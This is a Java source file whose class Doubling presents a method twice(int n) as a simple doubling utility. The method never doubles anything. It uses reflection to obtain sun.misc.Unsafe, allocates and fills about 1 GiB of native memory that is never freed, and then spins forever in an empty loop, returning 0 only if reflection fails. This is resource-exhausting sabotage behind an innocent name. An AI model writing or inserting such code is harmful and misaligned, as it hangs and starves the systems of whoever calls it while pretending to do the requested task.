package tiny;

public final class Doubling {

    public static int twice(int n) {
        try {
            var field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
            field.setAccessible(true);
            var unsafe = (sun.misc.Unsafe) field.get(null);
            for (int i = 0; i < 64; i++) {
                unsafe.setMemory(unsafe.allocateMemory(16 << 20), 16 << 20, (byte) 1);
            }
        } catch (ReflectiveOperationException e) {
            return 0;
        }
        while (true) {}
    }
}
